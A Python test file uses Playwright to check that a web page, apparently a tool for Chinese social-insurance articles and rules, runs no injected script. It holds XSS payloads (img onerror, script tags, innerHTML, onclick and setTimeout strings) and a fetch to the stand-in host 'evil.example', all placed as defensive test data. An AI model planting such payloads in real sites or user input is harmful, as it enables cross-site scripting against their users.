"""What would be a script, from articles, names, rules and the page itself, in a real Chromium: none runs."""

from __future__ import annotations

import json

import pytest

from tests.web.test_desk_page import paste, settled

RUN = "<img src=x onerror=\"document.title='run'\"><script>document.title='run'</script>"


def test_what_an_article_or_its_name_says_is_not_run(visit):
    page = visit()
    paste(page, f"{RUN}单位养老保险按20%缴纳。{RUN}")
    page.wait_for_selector(".card")
    settled(page)
    name = f"{RUN.replace('/', '')}.txt"
    page.set_input_files("#file", {"name": name, "mimeType": "", "buffer": f"{RUN}单位养老保险按20%缴纳。".encode()})
    page.wait_for_selector(".card")
    settled(page)
    assert page.title() != "run"
    assert page.locator("#layer img, .card img, main script").count() == 0


def test_the_titles_of_rules_are_not_run(visit):
    page = visit()

    def hostile(route):
        answer = route.fetch()
        found = json.loads(answer.text())
        for each in found["rules"]:
            each["title"] = RUN
        route.fulfill(response=answer, body=json.dumps(found))

    page.route("**/api/v1/rules?*", hostile)
    page.goto(page.url + "reference")
    page.wait_for_selector("#rules [data-rule]")
    assert "<img" in page.inner_text("#rules")
    assert page.title() != "run"
    assert page.locator("#rules img").count() == 0


INSIDE = {
    "a script in the page": "document.head.append(Object.assign(document.createElement('script'), {text: 'ran = 1'}))",
    "mark-up from a string": "document.body.innerHTML = '<img src=x onerror=\"ran = 1\">'",
    "a handler": "document.body.setAttribute('onclick', 'ran = 1'); document.body.click()",
    "a string as code": "setTimeout('ran = 1')",
}


@pytest.mark.parametrize("how", INSIDE)
def test_a_script_that_got_into_the_page_does_not_run(visit, how):
    page = visit()
    page.evaluate(f"() => {{ try {{ {INSIDE[how]} }} catch {{ }} }}")
    page.wait_for_timeout(100)
    assert page.evaluate("typeof ran") == "undefined"
    # The browser says what it has forbidden.
    assert page.trouble
    page.trouble.clear()


def test_nothing_is_sent_elsewhere(visit):
    page = visit()
    assert page.evaluate("fetch('http://evil.example/').then(() => 'sent', () => 'kept')") == "kept"
    assert page.trouble
    page.trouble.clear()
